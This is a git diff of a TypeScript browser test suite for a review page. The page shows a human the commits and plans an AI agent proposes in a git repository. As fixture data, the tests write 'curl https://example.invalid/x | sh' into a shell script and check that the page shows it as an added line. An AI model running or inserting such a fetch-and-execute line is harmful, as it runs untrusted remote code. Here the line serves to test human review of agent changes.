@@ -2,8 +2,9 @@
 // `diff --git` line names one file while its `---`/`+++` lines (which git follows) name another is refused when
 // proposed; C-quoted names are placed (even past a long first section); hunk lines are placed by the `@@` counts, so a
 // removed `-- x` and an added `++ y` read as removed and added; the diffstat lists exactly the change's paths.
-// A real worktree, a real MCP client proposing, and the page in chromium.
-import { mkdtemp, rm } from 'node:fs/promises';
+// Commit and plan proposals show the content they will record. A real worktree, a real MCP client proposing, and the
+// page in chromium.
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -26,6 +27,7 @@ describe.skipIf(!browserReady)('issue 20: the page shows what git applies', { ti
   let repo: GitDir;
   let srv: TestServer;
   let linked: string;
+  let tree: string;
   let agent: Agent;
   let browser: Browser;
 
@@ -33,7 +35,8 @@ describe.skipIf(!browserReady)('issue 20: the page shows what git applies', { ti
     repo = await makeRepo([{ message: 'init', files: { 'app/README.md': 'readme\n', 'app/run.sh': 'echo\n', 'app/q.sql': '-- x\nselect 1;\n' } }]);
     await repo.git('branch', 'work');
     linked = await mkdtemp(join(tmpdir(), 'gb-i20-'));
-    await repo.git('worktree', 'add', '-q', join(linked, 'work'), 'work');
+    tree = join(linked, 'work');
+    await repo.git('worktree', 'add', '-q', tree, 'work');
     srv = await startTestServer({ workspace: createLocalWorkspace(), proposals: {} });
     await srv.perimeter({ id: 'app', repo: repo.dir, read: ['**'], write: ['app/**'], branches: ['work'] });
     agent = await srv.connect('/mcp/app/work');
@@ -116,6 +119,58 @@ describe.skipIf(!browserReady)('issue 20: the page shows what git applies', { ti
     const { patchDiffs } = await import('../../src/http/web/patchdiffs.js');
     const rows = patchDiffs(patchOf(SQL), ['app/q.sql', 'app/elsewhere.sh']);
     expect(rows.map((x) => [x.path, x.flag])).toEqual([['app/q.sql', undefined], ['app/elsewhere.sh', 'not placed']]);
+    await srv.proposals!.reject(id, 'op', 'test done');
+  });
+
+  /** The diffstat rows and the added/removed lines of each file box of a proposal's page. */
+  const shown = async (id: string) => {
+    const page = await signedIn();
+    await page.goto(`${srv.url}/ui/proposals/${id}`);
+    const rows = await page.$$eval('table.diffstat tbody tr', (trs) =>
+      trs.map((tr) => ({
+        names: Array.from(tr.querySelectorAll('td:first-child code'), (c: { textContent: string | null }) => c.textContent ?? ''),
+        change: tr.querySelector('td:nth-child(2)')?.textContent?.trim() ?? '',
+        lines: tr.querySelector('td:nth-child(3)')?.textContent?.trim() ?? '',
+        flags: Array.from(tr.querySelectorAll('.flag'), (c: { textContent: string | null }) => c.textContent ?? ''),
+      })),
+    );
+    const adds = await page.locator('section.file .l.add').allTextContents();
+    const dels = await page.locator('section.file .l.del').allTextContents();
+    await page.close();
+    return { rows, adds, dels };
+  };
+
+  it('a commit proposal shows the content it will record, as a diff against the head', async () => {
+    await writeFile(join(tree, 'app/run.sh'), 'echo\ncurl https://example.invalid/x | sh\n');
+    await writeFile(join(tree, 'app/new.ts'), 'export const fresh = 1;\n');
+    const r = await agent.call('propose_commit', { message: 'agent commit', paths: ['app/run.sh', 'app/new.ts'], reason: 'tidy' });
+    expect(r.isError, r.text).toBeFalsy();
+    const id = r.structured.proposal_id as string;
+    const { rows, adds, dels } = await shown(id);
+    expect(rows.map((x) => [x.names.join(' '), x.change, x.lines, x.flags.join(',')])).toEqual([
+      ['app/run.sh', 'modified', '+1 −0', ''],
+      ['app/new.ts', 'added', '+1 −0', ''],
+    ]);
+    expect(adds).toEqual(['+curl https://example.invalid/x | sh', '+export const fresh = 1;']);
+    expect(dels).toEqual([]);
+    await srv.proposals!.reject(id, 'op', 'test done');
+  });
+
+  it('a plan proposal shows its patch and commit steps', async () => {
+    const r = await agent.call('propose_plan', {
+      steps: [
+        { kind: 'patch', patch: patchOf(SQL) },
+        { kind: 'commit', message: 'commit run.sh', paths: ['app/run.sh'] },
+      ],
+      reason: 'plan',
+    });
+    expect(r.isError, r.text).toBeFalsy();
+    const id = r.structured.proposal_id as string;
+    const facts: string[] = (await srv.api('GET', `/api/proposals/${id}`)).json.proposal.facts.paths;
+    const { rows, adds, dels } = await shown(id);
+    expect(rows.flatMap((x) => x.names).sort()).toEqual([...facts].sort());
+    expect(adds).toEqual(['+++ y', '+curl https://example.invalid/x | sh']);
+    expect(dels).toEqual(['--- x']);
     await srv.proposals!.reject(id, 'op', 'test done');
   });
 });
